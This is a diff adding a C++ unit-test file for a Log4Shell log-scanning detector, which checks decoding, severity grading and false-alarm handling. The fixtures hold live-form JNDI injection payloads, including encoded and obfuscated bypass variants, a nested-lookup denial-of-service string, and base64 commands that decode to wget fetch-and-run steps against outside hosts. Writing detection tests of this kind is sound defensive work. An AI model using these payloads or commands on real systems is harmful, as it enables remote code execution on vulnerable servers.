@@ -1,0 +1,130 @@
+#include "hunt/detection.h"
+
+#include <gtest/gtest.h>
+
+#include <fstream>
+#include <string>
+#include <vector>
+
+namespace l4s::hunt {
+namespace {
+
+TEST(DetectionTest, PlainAttempt) {
+  auto d = ExamineLine(
+      "45.137.21.9 - - [11/Dec/2021:10:00:00 +0000] \"GET / HTTP/1.1\" 200 5 \"-\" "
+      "\"${jndi:ldap://45.137.21.9:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNjIuMjEwLjEzMC4yNTAvbGguc2g7Y2htb2QgK3ggbGguc2g7Li9saC5zaA==}\"");
+  ASSERT_TRUE(d);
+  EXPECT_EQ(d->verdict, Verdict::kReachesJndi214);
+  EXPECT_EQ(d->severity, Severity::kHigh);
+  ASSERT_EQ(d->jndi.size(), 1u);
+  EXPECT_EQ(d->jndi[0].host, "45.137.21.9");
+  EXPECT_EQ(d->jndi[0].port, 1389);
+  EXPECT_EQ(d->decoded_command, "wget http://62.210.130.250/lh.sh;chmod +x lh.sh;./lh.sh");
+  EXPECT_TRUE(d->layers.empty());
+}
+
+TEST(DetectionTest, EncodedAttempts) {
+  struct Case {
+    const char* line;
+    const char* name;
+  } cases[] = {
+      {"GET /?a=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.23%3A1389%2Fa%7D HTTP/1.1", "ldap://198.51.100.23:1389/a"},
+      {"GET /%2524%257Bjndi%253Aldap%253A%252F%252Fx.example%252Fa%257D", "ldap://x.example/a"},
+      {"ua=\"\\u0024\\u007bjndi:rmi://x.example/a\\u007d\"", "rmi://x.example/a"},
+      {"ua=\"${jnd${upper:\\xC4\\xB1}:ldap://x.example/a}\"", "ldap://x.example/a"},
+      {"{\"ua\":\"${jndi:ldap:\\/\\/x.example\\/a}\"}", "ldap://x.example/a"},
+      {"Authorization: Basic JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX06cHc=", "ldap://x.example/a"},
+      {"&#36;&#123;jndi:dns://x.example&#125;", "dns://x.example"},
+      {"GET /?q=$${jndi:ldap://x.example/a} ${nope}", "ldap://x.example/a"},
+  };
+  for (const Case& c : cases) {
+    auto d = ExamineLine(c.line);
+    ASSERT_TRUE(d) << c.line;
+    ASSERT_FALSE(d->jndi.empty()) << c.line;
+    EXPECT_EQ(d->jndi[0].name, c.name) << c.line;
+  }
+}
+
+// research/hunting.md sections 2.1 and 7.4: what other tools flag wrongly.
+TEST(DetectionTest, NoFalseAlarms) {
+  for (const char* line : {
+           "Property ${jboss.server.base.dir} jndi binding: ldap://corp.example:389/dc=corp",
+           "Using ${JAVA_HOME} ; JNDI name java:jboss/datasources/ExampleDS bound; ldap: ok",
+           "GET /search?q=${jquery.min} HTTP/1.1 ndi: lda p:",
+           "${jenkins.url} node dispatched in 3 ms: load avg p: 0.1",
+           "Template ${solution-user.name} applied",
+           "debconf: ${REMOVED_DEVICES}",
+           "GET /?gdpr=${GDPR} HTTP/1.1",
+           "GET /index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=${@phpinfo()}",
+           "escaped: $${jndi:ldap://x.example/a}",
+           "export PATH=${PATH}:${HOME}/bin",
+       }) {
+    EXPECT_FALSE(ExamineLine(line)) << line;
+  }
+}
+
+TEST(DetectionTest, Grades) {
+  EXPECT_EQ(ExamineLine("${jndi:ldap://127.0.0.1#evil.example:1389/a}")->severity, Severity::kCritical);
+  EXPECT_EQ(ExamineLine("${jndi:LDAP://x.example/a}")->severity, Severity::kMedium);  // non-functional scheme
+  auto dos = ExamineLine("${${::-${::-$${::-j}}}}");
+  ASSERT_TRUE(dos);
+  EXPECT_EQ(dos->verdict, Verdict::kDosOnly);
+  EXPECT_EQ(dos->severity, Severity::kLow);
+}
+
+TEST(DetectionTest, ExploitCommand) {
+  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64/aWQ="), "id");
+  EXPECT_EQ(DecodeExploitCommand("/TomcatBypass/Command/base64/aWQ"), "id");
+  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64/Y2QgL3RtcDsgd2dldCBodHRwOi8veC9i"), "cd /tmp; wget http://x/b");
+  EXPECT_EQ(DecodeExploitCommand("/Basic/Command/Base64//aWQ="), "");  // JNDIExploit itself does not decode this
+  EXPECT_EQ(DecodeExploitCommand("/Basic/ReverseShell/1.2.3.4/4444"), "");
+}
+
+TEST(DetectionTest, ScanBlockPositions) {
+  std::string block =
+      "clean line\n"
+      "another $5 line\r\n"
+      "GET /${jndi:ldap://x.example/a} HTTP/1.1\r\n"
+      "${jenkins.url}\n"
+      "last ${jndi:rmi://y.example/b}";
+  std::vector<Detection> found;
+  uint64_t lines = ScanBlock(block, 1000, 41, [&](Detection&& d) { found.push_back(std::move(d)); });
+  EXPECT_EQ(lines, 5u);
+  ASSERT_EQ(found.size(), 2u);
+  EXPECT_EQ(found[0].line, 43u);
+  EXPECT_EQ(found[0].offset, 1000u + block.find("GET"));
+  EXPECT_EQ(found[0].raw, "GET /${jndi:ldap://x.example/a} HTTP/1.1");
+  EXPECT_EQ(found[1].line, 45u);
+  EXPECT_EQ(found[1].jndi[0].host, "y.example");
+}
+
+// Acceptance: every real header payload in Corelight's Zeek notice.log
+// (11-13 December 2021) is found with the callback host Zeek extracted.
+TEST(DetectionTest, CorelightNoticeLog) {
+  std::string path = std::string(L4S_FIXTURES_DIR) +
+                     "/attack-data/corelight-cve-2021-44228/testing/Baseline/"
+                     "log4j.2021-12-11-thru-13-server-activity-with-log4j-attempts/notice.log";
+  std::ifstream in(path);
+  if (!in) GTEST_SKIP() << "fixture missing: " << path;
+  std::string line;
+  int checked = 0;
+  while (std::getline(in, line)) {
+    if (line.empty() || line[0] == '#') continue;
+    size_t v = line.find("header value='");
+    size_t h = line.find("payload_host=");
+    ASSERT_NE(v, std::string::npos);
+    ASSERT_NE(h, std::string::npos);
+    std::string value = line.substr(v + 14, line.find("'", v + 14) - v - 14);
+    std::string host = line.substr(h + 13, line.find(',', h) - h - 13);
+    auto d = ExamineLine(value);
+    ASSERT_TRUE(d) << value;
+    bool found = false;
+    for (const JndiTarget& t : d->jndi) found |= t.host == host;
+    EXPECT_TRUE(found) << value << " -> expected host " << host;
+    ++checked;
+  }
+  EXPECT_EQ(checked, 27);
+}
+
+}  // namespace
+}  // namespace l4s::hunt
